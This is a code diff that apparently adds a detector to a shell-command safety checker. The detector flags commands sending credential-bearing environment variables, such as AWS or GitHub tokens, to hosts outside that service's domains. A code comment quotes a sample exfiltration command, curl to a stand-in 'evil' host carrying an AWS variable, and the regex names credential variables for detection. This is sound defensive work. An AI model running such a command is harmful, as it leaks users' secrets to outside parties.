@@ -139,3 +139,43 @@ def recursive(cmd: Command) -> bool:
     if cmd.name in ("cp", "scp"):
         return bool(short & {"r", "R", "a"} or texts & {"--recursive", "--archive"})
     return False
+
+
+# Credentials in the environment by their service, and the hosts of that service: such a
+# variable sent anywhere else is a credential sent to a stranger (`curl evil?k=$AWS_…`)
+_SERVICES = {
+    "AWS": ("amazonaws.com", "aws.amazon.com"), "GITHUB": ("github.com", "githubusercontent.com"),
+    "GH": ("github.com", "githubusercontent.com"), "GITLAB": ("gitlab.com",),
+    "OPENAI": ("openai.com",), "ANTHROPIC": ("anthropic.com",), "SLACK": ("slack.com",),
+    "STRIPE": ("stripe.com",), "NPM": ("npmjs.org", "npmjs.com"), "HF": ("huggingface.co",),
+    "HUGGINGFACE": ("huggingface.co",), "GOOGLE": ("googleapis.com", "google.com"),
+    "GCP": ("googleapis.com",), "AZURE": ("azure.com", "windows.net", "microsoft.com"),
+    "CLOUDFLARE": ("cloudflare.com",), "CF": ("cloudflare.com",),
+    "DIGITALOCEAN": ("digitalocean.com",), "TWILIO": ("twilio.com",),
+    "SENDGRID": ("sendgrid.com",), "DATADOG": ("datadoghq.com", "datadoghq.eu"),
+    "SENTRY": ("sentry.io",), "VERCEL": ("vercel.com",), "NETLIFY": ("netlify.com",),
+    "HEROKU": ("heroku.com",), "DOCKER": ("docker.io", "docker.com"),
+}
+_CREDENTIAL_VAR = re.compile(r"\$\{?((?:[A-Z][A-Z0-9]*_)*?[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|"
+                             r"PASSWD|API_KEY|APIKEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)"
+                             r"[A-Z0-9_]*)\}?")
+_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?([^/:?#\s]+)", re.I)
+
+
+def credential_to_stranger(script: Script) -> list[tuple[float, str]]:
+    """A credential of a known service, from the environment, in the words of a command
+    that sends to a host not of that service."""
+    out: list[tuple[float, str]] = []
+    for cmd in script.commands:
+        if not sends(cmd):
+            continue
+        names = [m.group(1) for a in cmd.args for m in _CREDENTIAL_VAR.finditer(a.raw)]
+        hosts = [m.group(1).lower() for a in cmd.args if (m := _HOST.match(a.text))]
+        for name in names:
+            domains = _SERVICES.get(name.split("_", 1)[0])
+            for host in hosts:
+                if domains and not any(host == d or host.endswith("." + d) for d in domains):
+                    out.append((0.6, f"sends ${name} to {host}, not a host of its service "
+                                     f"({cmd.located()})"))
+                    return out
+    return out
